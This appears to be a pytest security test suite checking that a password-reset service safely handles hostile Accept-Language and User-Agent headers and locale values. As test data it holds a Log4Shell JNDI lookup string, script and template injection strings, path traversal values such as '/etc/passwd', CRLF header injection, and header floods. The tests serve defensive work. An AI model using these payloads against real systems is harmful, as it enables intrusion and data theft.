"""What a request says about its language and browser: only our own words for them are stored or shown."""

import json
import time
from typing import Any

import pytest

from shared.languages import LANGUAGES, tag
from shared.redis_keys import Key
from shared.user_agents import BROWSERS, SYSTEMS
from tests.attacks.answers import JSON, KNOWN, UNKNOWN, forgot, stopped
from tests.attacks.client import Answer
from tests.attacks.conftest import MakeTarget
from tests.attacks.mails import only_mail
from tests.attacks.target import ANNA, REFUSED, Target
from tests.attacks.test_denial_of_service import MEGABYTE, PROMPT, memory
from tests.attacks.test_token_dumps import dump

MARK = "malign-words"  # Unique to this file, because all tests share the logs.
CHROME = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0"
HOSTILE = {
    "ten thousand tags": ",".join(f"x{number}" for number in range(10_000)),
    "ten thousand languages": "de," * 10_000,
    "weights": ",".join(f"de;q=0.{number:03}" for number in range(1000)),
    "odd weights": "de;q=nan,fr;q=-1,it;q=1e999,nl;q=" + "9" * 300,
    "parameters": "de;" * 2000,
    "hyphens": "de" + "-a" * 3000,
    "quotes": '"' * 3000 + ", de",
    "escaped quotes": 'de;q="' + '\\"' * 3000,
    "white space": "de" + " " * 6000 + ";q=0.1",
    "stars": "*," * 3000,
}
AGENTS = [
    f"{CHROME} ${{jndi:ldap://{MARK}/x}}",
    f"{CHROME} <script src=//{MARK}></script>",
    f"{CHROME} {{{{7*7}}}} {MARK}",
    f"Mozilla/5.0 ({MARK}; Call +1 555 0100, your account is locked; Windows) Chrome/{MARK}",
    f"{CHROME} " + f"{MARK} " * 500,
]


def only_job(target: Target) -> dict[str, Any]:
    (entry,) = target.ask("hvals", Key.JOBS)
    job: dict[str, Any] = json.loads(entry)
    return job


@pytest.mark.parametrize("accept", HOSTILE.values(), ids=HOSTILE)
def test_a_hostile_list_of_languages_holds_nobody_up(target: Target, accept: str) -> None:
    """Parsers of Accept-Language with more than linear work (npm negotiator CVE-2016-10539, CWE-1333)."""
    begun = time.monotonic()
    answers = [target.forgot(ANNA, {"Accept-Language": accept}) for _ in range(5)]

    # The server itself refuses headers that are too long.
    assert {answer.status for answer in answers} <= {202, 400, 431}
    assert time.monotonic() - begun < PROMPT
    assert "unexpected_error" not in target.logs()


def test_ever_new_headers_do_not_fill_the_memory(share_target: MakeTarget) -> None:
    """A cache keyed by client headers of any length (Django CVE-2023-23969, CVE-2007-5712, CWE-770)."""
    target = share_target(worker=False)  # A worker would be busy for ten seconds with these jobs.
    for number in range(200):
        ask_anew(target, number)
    before = memory(target)

    for number in range(200, 1500):
        ask_anew(target, number)

    # Stored in full, they would take 11 MB.
    assert memory(target) - before < 6 * MEGABYTE


def ask_anew(target: Target, number: int) -> Answer:
    headers = {"Accept-Language": f"x{number}," * 600, "User-Agent": f"Mozilla/5.0 ({number}" + " x" * 2000}
    return target.forgot(f"person{number}@example.com", headers)


LOCALES = [
    "../../etc",
    "..\\..\\etc",
    "/etc/passwd",
    "de/../../x",
    "de\x00",
    "%2e%2e/x",
    "de\r\nX-Evil: 1",
    f"{MARK}.dat",
]


@pytest.mark.parametrize("path", ["/forgot-password", "/reset-password", "/reset-password/check"])
def test_a_path_as_the_language_is_refused(target: Target, path: str) -> None:
    """The client chooses the catalogue (Babel CVE-2021-42771, i18next-fs-backend CVE-2026-41693, CWE-22)."""
    fields = {"email": ANNA} if path == "/forgot-password" else {"token": "x"}
    fields |= {"password": "x"} if path == "/reset-password" else {}

    answers = [target.post(path, {**fields, "locale": locale}) for locale in LOCALES]

    assert [answer.outcome for answer in answers] == [REFUSED] * len(LOCALES)
    assert {answer.headers["content-language"] for answer in answers} <= {"en", "de"}
    assert target.recipients == []


@pytest.mark.parametrize("locale", ["../../etc", "..%2f..%2fetc%2fpasswd", f"{MARK}.dat"])
def test_a_path_as_the_language_in_a_header_or_a_query_opens_no_file(target: Target, locale: str) -> None:
    """The same where the language is optional, so that nothing is refused (CWE-22)."""
    answers = [
        target.request("GET", "/password-policy", headers={"Accept-Language": locale}),
        target.request("GET", f"/password-policy?locale={locale}"),
        target.forgot(ANNA, {"Accept-Language": locale}),
    ]

    assert [answer.status for answer in answers] == [200, 200, 202]
    assert [answer.headers["content-language"] for answer in answers] == ["en"] * 3


@pytest.mark.parametrize("user_agent", AGENTS, ids=range(len(AGENTS)))
def test_the_words_of_a_browser_reach_no_mail_and_no_log(target: Target, user_agent: str) -> None:
    """An attacker's text in Redis, logs and emails (CWE-74; Log4Shell, CVE-2021-44228, arrived in User-Agent)."""
    target.add_user(ANNA)
    headers = {"User-Agent": user_agent, "Accept-Language": f"de;{MARK}={MARK}, {MARK}"}

    with stopped(target.worker.pids()):
        answer = target.post("/forgot-password", {"email": ANNA, "locale": f"nl-{MARK[:4]}"}, headers)
        job, kept = only_job(target), dump(target)

    assert (answer.status, answer.headers["content-language"]) == (202, "nl")
    assert (job["locale"], job["browser"], job["system"]) == ("nl", "Chrome", "Windows")
    assert job["browser"] in BROWSERS
    assert job["system"] in SYSTEMS
    everything = kept + "".join(only_mail(target)) + dump(target)
    assert [text for text in (MARK, "nl-mali", "Mozilla", "jndi", "NT 10.0", "locked") if text in everything] == []


def test_the_words_of_a_thief_reach_no_change_notice(target: Target) -> None:
    """An attacker's text in the one email that warns the owner of the attack (CWE-74)."""
    target.add_user(ANNA)
    token = target.token_of(ANNA)
    body = {"token": token, "password": "correct horse battery staple", "locale": f"pt-{MARK[:4]}"}

    with stopped(target.worker.pids()):
        assert target.post("/reset-password", body, {"User-Agent": f"{CHROME} {MARK}"}).status == 200
        job, kept = only_job(target), dump(target)

    assert (job["kind"], job["locale"], job["browser"], job["system"]) == (
        "password_changed",
        "pt_BR",
        "Chrome",
        "Windows",
    )
    assert MARK not in kept + "".join(only_mail(target)) + dump(target)


@pytest.mark.parametrize("ending", [b"\r\n", b"\n", b"\r", b"\x00", b"\x85", "\u202e".encode()], ids=repr)
def test_a_line_end_in_a_header_reaches_no_log_and_no_mail(target: Target, ending: bytes) -> None:
    """Injected log lines or email headers by way of a request header (CWE-93, CWE-117)."""
    target.add_user(ANNA)
    body = json.dumps({"email": ANNA}).encode()
    head = (
        f"POST /forgot-password HTTP/1.1\r\nHost: x\r\nConnection: close\r\n{JSON}\r\nContent-Length: {len(body)}\r\n"
    )
    evil = CHROME.encode() + ending + b"X-Evil: " + MARK.encode()

    answer = target.send(head.encode() + b"User-Agent: " + evil + b"\r\nAccept-Language: " + evil + b"\r\n\r\n" + body)

    assert int(answer[9:12]) in {202, 400}
    assert MARK.encode() not in answer
    target.settle()
    assert MARK not in dump(target) + str([message.as_string() for _, message in target.mails])


@pytest.mark.parametrize("code", list(LANGUAGES))
def test_no_language_tells_who_has_an_account(target: Target, code: str) -> None:
    """A response that is translated, or differs in length, only for accounts (CWE-204)."""
    target.add_user(KNOWN)

    known, unknown = (forgot(target, address, f"Accept-Language: {tag(code)}") for address in (KNOWN, UNKNOWN))

    assert known == unknown
    assert f"\r\ncontent-language: {tag(code)}\r\n".encode() in known
